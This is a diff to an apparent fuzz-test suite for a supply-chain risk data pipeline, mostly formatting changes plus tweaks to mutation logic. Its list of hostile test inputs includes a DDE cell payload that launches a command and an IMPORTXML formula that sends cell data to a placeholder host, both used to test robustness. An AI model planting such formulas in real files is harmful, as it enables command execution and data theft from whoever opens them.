@@ -36,7 +36,13 @@ from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
 from riskatlas.paths import SHARED_DATA
 from riskatlas.sources import adapter
-from riskatlas.sources.base import GEO_PRECISIONS, TIERS, AdapterResult, SourceError, valid_coordinate
+from riskatlas.sources.base import (
+    GEO_PRECISIONS,
+    TIERS,
+    AdapterResult,
+    SourceError,
+    valid_coordinate,
+)
 
 SEED_ROWS = 20
 HANG_SECONDS = 30  # one tiny file must never take this long
@@ -59,7 +65,7 @@ FORMULAS = [
     "@SUM(1)",
     "=cmd|' /C calc'!A0",
     "\t=1+1",
-    "=IMPORTXML(CONCAT(\"http://x/\",A2),\"//a\")",
+    '=IMPORTXML(CONCAT("http://x/",A2),"//a")',
 ]
 STRUCTURAL = [
     '"', '""', 'a"b', '"unclosed', "\n", "\r\n", "\r", ",", ";", "\t", "|", "\x00", "a\x00b",
@@ -89,7 +95,9 @@ def hostile_text() -> st.SearchStrategy[str]:
         st.sampled_from(MINERALS),
         st.text(max_size=30),
         st.from_regex(r"-?\d{1,4}(\.\d{1,8})?([eE][+-]?\d{1,3})?", fullmatch=True),
-        st.builds(_huge, st.sampled_from(["x", "9", "é", "a,", '"', "Tin ", "\n"]), st.integers(300, 6000)),
+        st.builds(
+            _huge, st.sampled_from(["x", "9", "é", "a,", '"', "Tin ", "\n"]), st.integers(300, 6000)
+        ),
         st.integers(1, 3000).map(lambda n: "(" * n + "Tin" + ")" * n),
         st.just(""),
         st.just("   "),
@@ -175,7 +183,9 @@ TRACES: dict[str, Callable[[AdapterResult], str | None]] = {
     "samsung": lambda r: _exactly("links", len(_table(r, "links")), r.rows_loaded),
     "form_sd": lambda r: _exactly("links", len(_table(r, "links")), r.rows_loaded),
     "ilab_goods": lambda r: (
-        _at_most("distinct goods_risk entries", _nunique(r, "goods_risk", "source_ref"), r.rows_loaded)
+        _at_most(
+            "distinct goods_risk entries", _nunique(r, "goods_risk", "source_ref"), r.rows_loaded
+        )
         or (
             None
             if len(_table(r, "goods_risk")) >= r.rows_loaded
@@ -186,7 +196,9 @@ TRACES: dict[str, Callable[[AdapterResult], str | None]] = {
         "ilab_country_profiles", len(_table(r, "ilab_country_profiles")), r.rows_loaded
     ),
     "walkfree": lambda r: _at_most(
-        "countries with indicators", _nunique(r, "country_indicators", "country_iso3"), r.rows_loaded
+        "countries with indicators",
+        _nunique(r, "country_indicators", "country_iso3"),
+        r.rows_loaded,
     ),
     "freedom_house": lambda r: _exactly(
         "country_indicators (5 per row)", len(_table(r, "country_indicators")), 5 * r.rows_loaded
@@ -195,7 +207,9 @@ TRACES: dict[str, Callable[[AdapterResult], str | None]] = {
         "country_indicators (<= 2 per row)", len(_table(r, "country_indicators")), 2 * r.rows_loaded
     ),
     "what_a_waste": lambda r: _at_most(
-        "countries with indicators", _nunique(r, "country_indicators", "country_iso3"), r.rows_loaded
+        "countries with indicators",
+        _nunique(r, "country_indicators", "country_iso3"),
+        r.rows_loaded,
     ),
     "eurostat_weee": lambda r: _at_most(
         "distinct series in weee",
@@ -221,92 +235,182 @@ TARGETS: dict[str, Target] = {
     t.name: t
     for t in [
         Target(
-            "country_codes", "csv", "country_codes", "country-codes.csv",
+            "country_codes",
+            "csv",
+            "country_codes",
+            "country-codes.csv",
             ("ISO3166-1-Alpha-3", "ISO3166-1-Alpha-2", "CLDR display name", "Region Name"),
         ),
         Target(
-            "natural_earth", "geojson", "natural_earth_admin0_110m",
+            "natural_earth",
+            "geojson",
+            "natural_earth_admin0_110m",
             "ne_110m_admin_0_countries.geojson",
         ),
         Target(
-            "ipis", "csv", "ipis_drc_mine_sites", "cod_mines_curated_all_opendata_p_ipis.csv",
-            ("vid", "pcode", "visit_date", "latitude", "longitude", "workers_numb", "mineral1",
-             "location_origin", "presence", "name"),
+            "ipis",
+            "csv",
+            "ipis_drc_mine_sites",
+            "cod_mines_curated_all_opendata_p_ipis.csv",
+            (
+                "vid",
+                "pcode",
+                "visit_date",
+                "latitude",
+                "longitude",
+                "workers_numb",
+                "mineral1",
+                "location_origin",
+                "presence",
+                "name",
+            ),
         ),
         Target(
-            "icmm", "xlsx", "icmm_global_mining_dataset_2025",
+            "icmm",
+            "xlsx",
+            "icmm_global_mining_dataset_2025",
             "icmm_global_mining_dataset_2025_09.xlsx",
             ("ICMMID", "Latitude", "Longitude", "Country", "Primary Commodity", "Asset Type"),
             sheet="External",
         ),
         Target(
-            "mrds", "csv", "usgs_mrds", "minmod_mineral_sites_co_li_ni_ta_nb_w_ree_2024.csv",
-            ("ms_uri", "lat", "lon", "site_name", "country", "commodity", "source_id",
-             "record_id", "state_or_province"),
+            "mrds",
+            "csv",
+            "usgs_mrds",
+            "minmod_mineral_sites_co_li_ni_ta_nb_w_ree_2024.csv",
+            (
+                "ms_uri",
+                "lat",
+                "lon",
+                "site_name",
+                "country",
+                "commodity",
+                "source_id",
+                "record_id",
+                "state_or_province",
+            ),
         ),
         Target(
-            "usgs_africa", "csv", "usgs_africa_mineral_deposits",
+            "usgs_africa",
+            "csv",
+            "usgs_africa_mineral_deposits",
             "usgs_africa_mineral_deposits.csv",
             ("gid", "latitude", "longitude", "commodity", "country", "dep_name"),
         ),
         Target(
-            "apple", "csv", "apple_supplier_list_2012_2022", "apple_supplier_list_2012_2022.csv",
+            "apple",
+            "csv",
+            "apple_supplier_list_2012_2022",
+            "apple_supplier_list_2012_2022.csv",
             ("year", "supplier_name", "country", "supplier_address"),
         ),
         Target(
-            "curated_ewaste", "csv", "", "curated_ewaste.csv",
+            "curated_ewaste",
+            "csv",
+            "",
+            "curated_ewaste.csv",
             ("slug", "country", "year", "url", "name", "town"),
-            seed_path=Path(__file__).resolve().parent.parent / "riskatlas" / "data" / "curated_ewaste.csv",
+            seed_path=Path(__file__).resolve().parent.parent
+            / "riskatlas"
+            / "data"
+            / "curated_ewaste.csv",
             call_with_path=True,
         ),
         Target(
-            "samsung", "csv", "samsung_smelter_refiner_list_2024",
+            "samsung",
+            "csv",
+            "samsung_smelter_refiner_list_2024",
             "samsung_smelters_refiners_2024.csv",
             ("pdf_page", "row_no", "smelter_id", "metal", "country", "rmap_status"),
         ),
         Target(
-            "form_sd", "csv", "brand_form_sd_smelter_lists_2025", "brand_smelter_links_2025.csv",
+            "form_sd",
+            "csv",
+            "brand_form_sd_smelter_lists_2025",
+            "brand_smelter_links_2025.csv",
             ("brand", "reporting_year", "smelter_id", "metal", "country", "smelter_name"),
         ),
         Target(
-            "ilab_goods", "xml", "ilab_child_forced_labor", "ilab_goods_list_source.xml",
-            ("Country_Name", "Child_Labor", "Forced_Labor", "Derived_Labor_Exploitation",
-             "Derived_Country", "Good_Name"),
+            "ilab_goods",
+            "xml",
+            "ilab_child_forced_labor",
+            "ilab_goods_list_source.xml",
+            (
+                "Country_Name",
+                "Child_Labor",
+                "Forced_Labor",
+                "Derived_Labor_Exploitation",
+                "Derived_Country",
+                "Good_Name",
+            ),
             xml_path="Good/Countries/Country",
         ),
         Target(
-            "ilab_countries", "xml", "ilab_child_forced_labor",
+            "ilab_countries",
+            "xml",
+            "ilab_child_forced_labor",
             "ilab_country_findings_source.xml",
-            ("Name", "Advancement_Level", "Labor_Inspectors", "C_138_Ratified",
-             "Total_Percentage_of_Working_Children", "Labor_Inspectors_Intl_Standards"),
+            (
+                "Name",
+                "Advancement_Level",
+                "Labor_Inspectors",
+                "C_138_Ratified",
+                "Total_Percentage_of_Working_Children",
+                "Labor_Inspectors_Intl_Standards",
+            ),
             xml_path="Country",
         ),
         Target(
-            "walkfree", "csv", "walkfree_global_slavery_index_2023",
+            "walkfree",
+            "csv",
+            "walkfree_global_slavery_index_2023",
             "Global_Slavery_Index_2023_original.csv",
-            ("Country", "Estimated prevalence of modern slavery per 1,000 population",
-             "Estimated number of people in modern slavery"),
+            (
+                "Country",
+                "Estimated prevalence of modern slavery per 1,000 population",
+                "Estimated number of people in modern slavery",
+            ),
         ),
         Target(
-            "freedom_house", "xlsx", "freedom_house_fiw_2013_2024", "All_data_FIW_2013-2024.xlsx",
+            "freedom_house",
+            "xlsx",
+            "freedom_house_fiw_2013_2024",
+            "All_data_FIW_2013-2024.xlsx",
             ("Country/Territory", "C/T", "Edition", "E3", "G4", "PR", "CL", "Total"),
-            header_row=1, sheet="FIW13-24",
+            header_row=1,
+            sheet="FIW13-24",
         ),
         Target(
-            "wgi", "csv", "world_bank_wgi", "wgidataset.csv",
+            "wgi",
+            "csv",
+            "world_bank_wgi",
+            "wgidataset.csv",
             ("code", "year", "indicator", "estimate", "pctrank", "codeindyr"),
         ),
         Target(
-            "what_a_waste", "csv", "world_bank_what_a_waste", "country_level_data_0.csv",
-            ("iso3c", "country_name", "population_population_number_of_people",
-             "special_waste_e_waste_tons_year", "waste_treatment_recycling_percent",
-             "waste_treatment_controlled_landfill_percent"),
+            "what_a_waste",
+            "csv",
+            "world_bank_what_a_waste",
+            "country_level_data_0.csv",
+            (
+                "iso3c",
+                "country_name",
+                "population_population_number_of_people",
+                "special_waste_e_waste_tons_year",
+                "waste_treatment_recycling_percent",
+                "waste_treatment_controlled_landfill_percent",
+            ),
         ),
         Target(
-            "eurostat_weee", "tsv", "eurostat_weee_env_waselee", "env_waselee.tsv",
+            "eurostat_weee",
+            "tsv",
+            "eurostat_weee_env_waselee",
+            "env_waselee.tsv",
         ),
         Target(
-            "owid_ewaste", "csv", "owid_ewaste_recycling_rate",
+            "owid_ewaste",
+            "csv",
+            "owid_ewaste_recycling_rate",
             "electronic-waste-recycling-rate.csv",
             ("Entity", "Code", "Year", "Proportion of electronic waste recycled (%)"),
         ),
@@ -327,7 +431,7 @@ def _spread(rows: list, n: int) -> list:
     return [rows[int(i * step)] for i in range(n)]
 
 
-@functools.lru_cache(maxsize=None)
+@functools.cache
 def seed(name: str) -> Any:
     """The real slice a target's mutations start from (rows, a tree, or a GeoJSON dict)."""
     t = TARGETS[name]
@@ -360,11 +464,13 @@ def seed(name: str) -> Any:
         return etree.tostring(root)
     if t.kind == "geojson":
         data = json.loads(t.source.read_text(encoding="utf-8"))
-        feats = data["features"]
+        # The -99 features, Fiji (crosses the antimeridian) and the USA, plus a spread of others.
+        # Russia and Antarctica are left out: their antimeridian fix alone takes ~0.2 s a file.
+        feats = [f for f in data["features"] if f["properties"]["ADM0_A3"] not in ("RUS", "ATA")]
         special = [
             f for f in feats
             if f["properties"].get("ISO_A3") == "-99"
-            or f["properties"].get("ADM0_A3") in ("RUS", "FJI", "ATA", "USA")
+            or f["properties"].get("ADM0_A3") in ("FJI", "USA")
         ]  # fmt: skip
         data["features"] = special + _spread([f for f in feats if f not in special], 12)
         return json.dumps(data)
@@ -472,15 +578,24 @@ BYTE_OPS = (
 
 
 def mutate_bytes(data: st.DataObject, blob: bytes) -> tuple[bytes, str]:
-    """Damage the file's bytes the way a broken download, disk or editor would."""
+    """Damage the file's bytes the way a broken download, disk or editor would.
+
+    Positions are drawn as fractions of the length: a workbook's bytes vary with its save time.
+    """
     op = data.draw(st.sampled_from(BYTE_OPS), label="byte_op")
+
+    def pos(limit: int) -> int:
+        return data.draw(st.integers(0, 10**6), label="at") * limit // 10**6
+
     if op == "truncate":
-        blob = blob[: data.draw(st.integers(0, max(0, len(blob) - 1)), label="cut")]
+        blob = blob[: pos(max(0, len(blob) - 1))]
     elif op == "insert_garbage":
-        at = data.draw(st.integers(0, len(blob)), label="at")
-        blob = blob[:at] + data.draw(st.binary(min_size=1, max_size=64), label="garbage") + blob[at:]
+        at = pos(len(blob))
+        blob = (
+            blob[:at] + data.draw(st.binary(min_size=1, max_size=64), label="garbage") + blob[at:]
+        )
     elif op == "flip" and blob:
-        at = data.draw(st.integers(0, len(blob) - 1), label="at")
+        at = pos(len(blob) - 1)
         blob = blob[:at] + bytes([data.draw(st.integers(0, 255))]) + blob[at + 1 :]
     elif op == "binary":
         blob = data.draw(st.binary(max_size=2000), label="binary")
@@ -491,7 +606,7 @@ def mutate_bytes(data: st.DataObject, blob: bytes) -> tuple[bytes, str]:
     elif op == "append_garbage":
         blob = blob + data.draw(st.binary(min_size=1, max_size=200), label="tail")
     elif op == "nul":
-        at = data.draw(st.integers(0, len(blob)), label="at")
+        at = pos(len(blob))
         blob = blob[:at] + b"\x00" * data.draw(st.integers(1, 8)) + blob[at:]
     return blob, op
 
@@ -606,7 +721,7 @@ def write_xml(data: st.DataObject, blob: bytes, t: Target) -> bytes:
         elif op == "unknown_child":
             el = data.draw(st.sampled_from(elements), label="el")
             etree.SubElement(el, "Unexpected").text = "<b>&amp;</b>"
-        elif op == "namespace_root":
+        elif op == "namespace_root" and not root.tag.startswith("{"):
             root.tag = "{urn:x}" + root.tag
         elif op == "rename_root":
             root.tag = data.draw(st.sampled_from(XML_TAGS), label="tag")
@@ -698,7 +813,7 @@ def write_geojson(data: st.DataObject, blob: str) -> bytes:
             elif op == "short_ring":
                 del ring[data.draw(st.integers(1, 3)) :]
             elif op == "huge_ring":
-                ring[:] = [[float(i % 360 - 180), float(i % 180 - 90)] for i in range(5000)]
+                ring[:] = [[float(i % 360 - 180), float(i % 180 - 90)] for i in range(1000)]
         elif op == "geom_type" and dict_feats:
             f = data.draw(st.sampled_from(dict_feats), label="feature")
             if isinstance(f.get("geometry"), dict):
@@ -869,7 +984,9 @@ def check_result(t: Target, r: AdapterResult, exp: Expect) -> None:
         f"{t.name}: {r.rows_rejected} rejects for {r.rows_in} rows (a row rejected twice?)"
     )
     for rej in r.rejects:
-        assert isinstance(rej["reason"], str) and rej["reason"].strip(), f"reject without reason: {rej}"
+        assert isinstance(rej["reason"], str) and rej["reason"].strip(), (
+            f"reject without reason: {rej}"
+        )
         assert isinstance(rej["source_ref"], str)
     for name, df in r.tables.items():
         assert isinstance(df, pd.DataFrame), f"{t.name}: table {name} is {type(df).__name__}"
